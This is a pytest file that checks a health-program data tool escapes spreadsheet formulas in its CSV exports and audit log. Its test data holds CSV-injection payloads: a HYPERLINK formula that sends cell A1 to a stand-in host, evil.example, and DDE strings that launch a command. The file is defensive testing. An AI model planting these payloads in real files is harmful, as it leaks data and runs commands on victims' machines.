"""Text that a spreadsheet would run as a formula is written with a leading apostrophe, in
every CSV the product writes: the exports (command line and downloads share the writer)
and the audit log. Loaded through the real loader, on both engines."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from sqlalchemy import Engine, insert

from data_access import access, cli
from data_access.access import LOCAL_VIEWER
from data_access.exports import FORMULA_STARTS, export_frame, to_csv_text, write_csv
from data_access.filters import OutcomeFilter
from data_access.loader import load_directory
from data_access.models import Program

ADMIN = access.Viewer(email="admin@example.org", role="admin")
# One name per character the contract lists; the first is the issue's own example.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _write(directory: Path, name: str, header: str, rows: list[list[str]]) -> None:
    with (directory / name).open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out, lineterminator="\n")
        writer.writerow(header.split(","))
        writer.writerows(rows)


@pytest.fixture
def loaded(engine: Engine, tmp_path: Path) -> Engine:
    files = tmp_path / "files"
    files.mkdir()
    _write(files, "states.csv", "state_code,state_name", [["TX", "Texas"]])
    _write(
        files,
        "programs.csv",
        "program_id,state_code,program_model,program_name,launched_on",
        [
            [f"P{i}", "TX", "embedded", name, "2020-01-01"]
            for i, name in enumerate(FORMULAS)
            if "\r" not in name
        ],
    )
    _write(
        files,
        "members.csv",
        "member_id,state_code,birth_year,primary_condition",
        [["M1", "TX", "1980", "mental_health"]],
    )
    _write(
        files,
        "eligibility.csv",
        "member_id,start_date,end_date",
        [["M1", "2020-01-01", "2020-12-31"]],
    )
    _write(
        files,
        "enrollments.csv",
        "enrollment_id,member_id,program_id,coaching_role,enrolled_on,ended_on",
        [["E1", "M1", "P0", "peer_coach", "2020-03-01", ""]],
    )
    _write(
        files,
        "admissions.csv",
        "admission_id,member_id,setting,admit_date,discharge_date,paid_amount",
        [["A1", "M1", "behavioral", "2020-02-01", "2020-02-05", "100.00"]],
    )
    _write(
        files,
        "services.csv",
        "claim_id,member_id,service_date,category,behavioral,visits,paid_amount",
        [["C1", "M1", "2020-12-31", "outpatient", "true", "1", "10.00"]],
    )
    load_directory(files, engine=engine)
    # The loader reads a carriage return as the end of a line, even quoted; such a name can
    # still reach the database another way, so it is written straight into the table.
    with engine.begin() as conn:
        conn.execute(
            insert(Program),
            [
                {
                    "program_id": f"P{i}",
                    "state_code": "TX",
                    "program_model": "embedded",
                    "program_name": name,
                    "launched_on": dt.date(2020, 1, 1),
                }
                for i, name in enumerate(FORMULAS)
                if "\r" in name
            ],
        )
    return engine


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_formula_start_is_listed() -> None:
    assert {name[0] for name in FORMULAS} == set(FORMULA_STARTS)


def test_program_names_are_loaded_as_written(loaded: Engine) -> None:
    frame = export_frame(
        dataset="prepost", filters=OutcomeFilter(), viewer=LOCAL_VIEWER, engine=loaded
    )
    assert sorted(frame["program_name"]) == sorted(FORMULAS)


@pytest.mark.parametrize("small_cells", ["suppress", "show"])
def test_the_prepost_export_neutralises_every_formula(loaded: Engine, small_cells: str) -> None:
    frame = export_frame(
        dataset="prepost",
        filters=OutcomeFilter(),
        viewer=LOCAL_VIEWER,
        small_cells=small_cells,  # type: ignore[arg-type]
        engine=loaded,
    )
    rows = _cells(to_csv_text(frame))
    names = [row[rows[0].index("program_name")] for row in rows[1:]]
    assert sorted(names) == sorted(f"'{name}" for name in FORMULAS)


def test_the_command_line_export_neutralises_every_formula(
    loaded: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "prepost.csv"
    url = loaded.url.render_as_string(hide_password=False)
    assert cli.main(["export", "prepost", "--database-url", url, "--out", str(out)]) == 0
    rows = _cells(out.read_bytes().decode("utf-8"))
    names = [row[rows[0].index("program_name")] for row in rows[1:]]
    assert sorted(names) == sorted(f"'{name}" for name in FORMULAS)


def test_the_audit_log_neutralises_every_formula(loaded: Engine) -> None:
    for formula in FORMULAS:
        access.record_event(
            email=formula, role="leadership", event="download", detail=formula, engine=loaded
        )
    buffer = io.StringIO()
    write_csv(access.audit_log(viewer=ADMIN, engine=loaded), buffer)
    rows = _cells(buffer.getvalue())
    header = rows[0]
    written = {(row[header.index("email")], row[header.index("detail")]) for row in rows[1:]}
    assert written == {(f"'{formula}", f"'{formula}") for formula in FORMULAS}


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Texas", "Texas"),
        ("2025-01", "2025-01"),
        ("a=b", "a=b"),
        ("=1", "'=1"),
        ("-", "'-"),
    ],
)
def test_only_a_leading_formula_character_is_guarded(value: str, written: str) -> None:
    import pandas as pd

    text = to_csv_text(pd.DataFrame({"program_name": [value]}))
    assert _cells(text)[1] == [written]
